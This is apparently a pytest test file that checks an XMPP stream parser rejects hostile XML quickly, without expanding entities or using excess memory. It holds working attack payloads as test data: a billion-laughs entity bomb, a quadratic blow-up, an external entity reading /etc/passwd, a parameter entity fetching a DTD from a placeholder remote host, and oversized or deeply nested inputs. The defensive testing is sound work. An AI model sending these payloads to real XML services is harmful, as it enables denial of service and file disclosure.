"""Hostile XML: entity expansion, external entities, deep nesting, huge tokens, restricted
constructs.  Each must end the stream with its error quickly, having expanded nothing."""

from __future__ import annotations

import time
import tracemalloc

import pytest

from protocols.xmpp.stream import StreamError, StreamParser, TopElement
from tests.xmpp.conftest import HEADER

OPEN = HEADER.format(to="localhost").encode()

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'
 to='localhost' version='1.0'><message><body>&lol9;</body></message>"""

QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]><stream:stream xmlns="jabber:client"'
    b' xmlns:stream="http://etherx.jabber.org/streams"><message><body>'
    + b"&a;" * 20_000
    + b"</body></message>"
)

EXTERNAL = (
    b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b"<stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>"
    b"<message><body>&x;</body></message>"
)

PARAMETER = (
    b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>'
    b"<stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>"
)

CASES = [
    ("billion laughs", BILLION_LAUGHS, "restricted-xml"),
    ("quadratic blow-up", QUADRATIC, "restricted-xml"),
    ("external entity", EXTERNAL, "restricted-xml"),
    ("parameter entity", PARAMETER, "restricted-xml"),
    ("doctype mid-stream", OPEN + b"<!DOCTYPE x [<!ENTITY a 'b'>]><message/>", "restricted-xml"),
    ("doctype inside a stanza", OPEN + b"<message><!DOCTYPE x></message>", "restricted-xml"),
    ("undeclared entity", OPEN + b"<message><body>&nbsp;</body></message>", "restricted-xml"),
    ("entity in an attribute", OPEN + b"<message to='&x;'/>", "restricted-xml"),
    ("comment", OPEN + b"<message><!-- hi --></message>", "restricted-xml"),
    ("comment between stanzas", OPEN + b"<!-- hi -->", "restricted-xml"),
    ("processing instruction", OPEN + b"<message><?php evil() ?></message>", "restricted-xml"),
    ("xml declaration mid-stream", OPEN + b"<?xml version='1.0'?>", "restricted-xml"),
    ("deep nesting", OPEN + b"<a>" * 100_000, "policy-violation"),
    ("huge attribute", OPEN + b"<message to='" + b"a" * 1_000_000 + b"'/>", "policy-violation"),
    ("huge text", OPEN + b"<message><body>" + b"a" * 1_000_000, "policy-violation"),
    (
        "many attributes",
        OPEN + b"<message " + b" ".join(b"a%d='x'" % i for i in range(100_000)) + b"/>",
        "policy-violation",
    ),
    ("huge name", OPEN + b"<" + b"a" * 1_000_000, "policy-violation"),
    ("many small stanzas in one", OPEN + b"<message>" + b"<b/>" * 100_000, "policy-violation"),
    ("bad utf-8", OPEN + b"<message><body>\xc3\x28</body></message>", "not-well-formed"),
    ("mismatched tags", OPEN + b"<message></presence>", "not-well-formed"),
    ("binary", OPEN + b"\x00\x01\x02", "not-well-formed"),
]


def run(data: bytes, chunk: int) -> tuple[str | None, int]:
    parser = StreamParser()
    stanzas = 0
    try:
        for offset in range(0, len(data), chunk):
            for event in parser.feed(data[offset : offset + chunk]):
                if isinstance(event, TopElement):
                    stanzas += 1
    except StreamError as err:
        return err.condition, stanzas
    return None, stanzas


@pytest.mark.parametrize(("name", "data", "condition"), CASES, ids=[c[0] for c in CASES])
@pytest.mark.parametrize("chunk", [1 << 20, 1000, 7])
def test_attack_ends_the_stream(name: str, data: bytes, condition: str, chunk: int) -> None:
    if chunk == 7 and len(data) > 200_000:
        chunk = 997  # one byte at a time through a megabyte only tests patience
    tracemalloc.start()
    started = time.monotonic()
    try:
        got, stanzas = run(data, chunk)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert got == condition
    assert stanzas == 0
    assert time.monotonic() - started < 5
    # Nothing was expanded or buffered beyond a few times the input.
    assert peak < 4 * len(data) + 2_000_000


def test_the_limits_leave_room_for_big_honest_stanzas() -> None:
    body = b"x" * 200_000
    data = OPEN + b"<message><body>" + body + b"</body></message>"
    assert run(data, 4096) == (None, 1)
    nested = OPEN + b"<message>" + b"<x>" * 30 + b"</x>" * 30 + b"</message>"
    assert run(nested, 100) == (None, 1)


@pytest.mark.parametrize(("name", "data", "condition"), CASES[:6], ids=[c[0] for c in CASES[:6]])
def test_attacks_over_a_connection(client, name: str, data: bytes, condition: str) -> None:
    c = client()
    c.send(data)
    assert c.stream_error == condition
    assert c.closed
